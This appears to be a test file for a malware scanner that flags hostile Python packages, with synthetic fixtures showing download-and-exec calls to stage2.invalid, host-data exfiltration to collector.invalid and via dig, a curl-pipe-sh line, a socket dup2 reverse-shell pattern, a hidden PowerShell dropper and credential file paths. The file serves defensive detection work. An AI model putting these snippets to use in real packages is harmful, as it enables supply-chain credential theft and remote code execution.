@@ -1,0 +1,203 @@
+"""Detectors for what real malware does, and the false alarms real packages raise.
+
+Every snippet is written for this test, harmless and never run: hostnames are under .invalid /
+.test, "payloads" print a word. Each detector has a firing case; each false-alarm kind seen on
+real packages (version idiom, publish shortcut, credential paths in tests/docs, vendored code,
+dup2 in a test suite, curl | bash in CI) has a quiet case.
+"""
+
+from __future__ import annotations
+
+import base64
+
+from slopspotter_lab.heuristics.static import analyze_artifact, file_role
+
+SETUP = "from setuptools import setup\nsetup(name='ok', version='1.0', packages=['ok'])\n"
+
+
+def _tree(tmp_path, files: dict[str, str | bytes]):
+    root = tmp_path / "pkg"
+    for rel, content in files.items():
+        p = root / rel
+        p.parent.mkdir(parents=True, exist_ok=True)
+        p.write_bytes(content if isinstance(content, bytes) else content.encode())
+    return root
+
+
+def _sev(inds, id_):
+    return {i.severity for i in inds if i.id == id_}
+
+
+def _scan(tmp_path, files):
+    return analyze_artifact(_tree(tmp_path, files), "pypi")
+
+
+# ------------------------------------------------------------------ flows
+
+def test_download_then_exec_on_a_later_statement(tmp_path):
+    src = ("import urllib.request\n"
+           "resp = urllib.request.urlopen('http://stage2.invalid/p')\n"
+           "body = resp.read()\n"
+           "code = body.decode('utf-8')\n"
+           "exec(code)\n")
+    inds = _scan(tmp_path, {"ok/__init__.py": src, "setup.py": SETUP})
+    assert _sev(inds, "download_execute") == {"high"}
+    inds = _scan(tmp_path / "b", {"setup.py": src + SETUP})
+    assert _sev(inds, "download_execute") == {"critical"}
+
+
+def test_decode_into_a_variable_then_exec(tmp_path):
+    blob = base64.b64encode(b"print('synthetic')").decode()
+    src = f"import base64\npayload = base64.b64decode('{blob}')\nstep = payload\nexec(step)\n"
+    assert _sev(_scan(tmp_path, {"ok/__init__.py": src}), "encoded_exec") == {"high"}
+
+
+def test_exec_of_bytes_and_hex_escaped_constants(tmp_path):
+    hexed = "".join(f"\\x{b:02x}" for b in b"print('synthetic hex')")
+    src = f"exec(b'print(\"synthetic bytes payload\")')\nexec('{hexed}')\n"
+    inds = _scan(tmp_path, {"ok/run.py": src})
+    assert "encoded_exec" in {i.id for i in inds}
+
+
+def test_exec_through_an_alias(tmp_path):
+    src = ("import builtins\nrun = getattr(builtins, 'exec')\nq = exec\n"
+           "data = open('x.txt').read()\nrun(data)\nq(data)\n")
+    inds = _scan(tmp_path, {"ok/__init__.py": src})
+    assert any(i.id == "obfuscation" and "alias" in i.evidence for i in inds)
+
+
+def test_code_hidden_after_a_long_run_of_spaces(tmp_path):
+    src = "VERSION = '1.0'" + " " * 300 + ";import os\n"
+    inds = _scan(tmp_path, {"ok/__init__.py": src})
+    assert any(i.id == "obfuscation" and "spaces" in i.evidence for i in inds)
+
+
+def test_host_data_sent_to_the_network(tmp_path):
+    src = ("import socket, getpass, requests\n"
+           "info = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
+           "requests.post('https://collector.invalid/c', json=info)\n")
+    assert _sev(_scan(tmp_path, {"ok/__init__.py": src}), "host_data_exfil") == {"high"}
+
+
+def test_host_data_through_dig(tmp_path):
+    src = ("import os, subprocess\nuser = os.getlogin()\n"
+           "subprocess.run(['dig', user + '.oob.invalid'])\n")
+    inds = _scan(tmp_path, {"setup.py": src + SETUP})
+    assert _sev(inds, "host_data_exfil") == {"critical"}
+
+
+def test_setup_py_following_a_sibling_module(tmp_path):
+    helper = "import urllib.request\nurllib.request.urlopen('http://collector.invalid/ping')\n"
+    setup = "import _helper\n" + SETUP
+    inds = _scan(tmp_path, {"setup.py": setup, "_helper.py": helper})
+    net = [i for i in inds if i.id == "setup_network"]
+    assert net and "imported by setup.py" in net[0].evidence
+    # the same module not imported by setup.py is ordinary package code
+    assert "setup_network" not in {i.id for i in _scan(tmp_path / "b", {"setup.py": SETUP, "_helper.py": helper})}
+
+
+def test_zipimport_payload(tmp_path):
+    src = "import zipimport\nzipimport.zipimporter('blob.zip').load_module('x')\n"
+    assert any(i.id == "obfuscation" and "zip" in i.evidence for i in _scan(tmp_path, {"ok/__init__.py": src}))
+
+
+# ------------------------------------------------------------------ endpoints and Windows
+
+def test_exfil_endpoints(tmp_path):
+    hook = "https://discord.com/api/webhooks/123456789012345678/" + "A" * 40
+    files = {"ok/a.py": f"URL = '{hook}'\n", "ok/b.py": "HOST = 'x1y2.oastify.com'\n",
+             "ok/c.py": "U = 'http://203.0.114.7:8080/up'\n"}
+    inds = _scan(tmp_path, files)
+    assert _sev(inds, "exfil_endpoint") == {"high"}
+    assert [i for i in inds if i.id == "exfil_endpoint"][0].extra.get("count") == 3
+
+
+def test_api_templates_and_private_ips_are_not_endpoints(tmp_path):
+    files = {"ok/a.py": "URL = 'https://discord.com/api/webhooks/{id}/{token}'\n"
+                        "BOT = 'https://api.telegram.org/bot{token}/sendMessage'\n"
+                        "LOCAL = 'http://127.0.0.1:8000/' ; LAN = 'http://192.168.1.10/'\n"}
+    assert "exfil_endpoint" not in {i.id for i in _scan(tmp_path, files)}
+
+
+def test_windows_only_droppers(tmp_path):
+    src = ("import os, subprocess\n"
+           "dst = os.path.join(os.getenv('APPDATA'), 'Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup')\n"
+           "subprocess.Popen('powershell -w hidden -c echo synthetic', shell=True)\n")
+    inds = _scan(tmp_path, {"setup.py": src + SETUP})
+    assert _sev(inds, "windows_payload") == {"critical"}
+    assert _sev(_scan(tmp_path / "b", {"ok/__init__.py": src}), "windows_payload") == {"high"}
+
+
+# ------------------------------------------------------------------ never skipped quietly
+
+def test_large_file_is_read_to_the_end(tmp_path):
+    big = "# filler\n" * 300_000 + "import os\nos.system('curl -s http://stage2.invalid/x | sh')\n"
+    assert len(big) > 2 * 1024 * 1024
+    inds = _scan(tmp_path, {"ok/big.py": big})
+    ids = {i.id for i in inds}
+    assert {"download_execute", "incomplete_analysis"} <= ids
+
+
+def test_bom_is_not_a_syntax_error(tmp_path):
+    blob = base64.b64encode(b"print('synthetic')").decode()
+    src = "\ufeffimport base64\nexec(base64.b64decode('" + blob + "'))\n"
+    inds = _scan(tmp_path, {"ok/__init__.py": src})
+    assert "encoded_exec" in {i.id for i in inds} and "incomplete_analysis" not in {i.id for i in inds}
+
+
+def test_syntax_error_falls_back_to_patterns_and_says_so(tmp_path):
+    src = "import base64\nprint 'python 2'\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
+    inds = _scan(tmp_path, {"setup.py": src})
+    ids = {i.id for i in inds}
+    assert {"encoded_exec", "incomplete_analysis"} <= ids
+    assert _sev(inds, "incomplete_analysis") == {"info"}
+
+
+# ------------------------------------------------------------------ false alarms of real packages
+
+def test_version_idiom_is_quiet(tmp_path):
+    setup = ("import os\nabout = {}\nhere = os.path.dirname(__file__)\n"
+             "with open(os.path.join(here, 'ok', '__version__.py')) as f:\n    exec(f.read(), about)\n"
+             "exec(open('ok/version.py').read())\n" + SETUP)
+    assert analyze_artifact(_tree(tmp_path, {"setup.py": setup}), "pypi") == []
+
+
+def test_publish_shortcut_is_low(tmp_path):
+    setup = ("import os, sys\nif sys.argv[-1] == 'publish':\n"
+             "    os.system('python setup.py sdist upload')\n    os.system('twine upload dist/*')\n" + SETUP)
+    assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"low"}
+
+
+def test_build_step_running_a_config_tool_is_low(tmp_path):
+    setup = ("import subprocess\nflags = subprocess.check_output(['pkg-config', '--cflags', 'libfoo'])\n" + SETUP)
+    assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"low"}
+
+
+def test_credential_paths_in_tests_and_docs_are_info(tmp_path):
+    files = {"tests/test_auth.py": "P = '~/.aws/credentials'\n", "docs/conf.py": "K = '~/.ssh/id_rsa'\n"}
+    assert _sev(_scan(tmp_path, files), "credential_paths") == {"info"}
+
+
+def test_vendored_code_is_demoted(tmp_path):
+    src = "import marshal\ncode = marshal.loads(b'xyz')\n"
+    inds = _scan(tmp_path, {"pip/_vendor/rich/_x.py": src})
+    assert _sev(inds, "encoded_exec") <= {"info", "low"}
+
+
+def test_dup2_in_a_test_suite_is_low(tmp_path):
+    src = "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"
+    assert _sev(_scan(tmp_path, {"tests/test_io.py": src}), "reverse_shell") == {"low"}
+    assert _sev(_scan(tmp_path / "b", {"ok/shell.py": src}), "reverse_shell") == {"critical"}
+
+
+def test_curl_pipe_bash_in_ci_script_is_low(tmp_path):
+    files = {".github/install.sh": "curl -s https://get.example.invalid | bash\n"}
+    assert _sev(_scan(tmp_path, files), "download_execute") == {"low"}
+
+
+def test_file_roles():
+    assert file_role("pkg-1.0/tests/test_x.py") == "tests"
+    assert file_role("pip-24/src/pip/_vendor/rich/a.py") == "vendored"
+    assert file_role("pkg-1.0/docs/conf.py") == "docs"
+    assert file_role("pkg-1.0/pkg/__init__.py") == "module"
+    assert file_role("pkg-1.0/pkg/test_utils.py") == "tests"
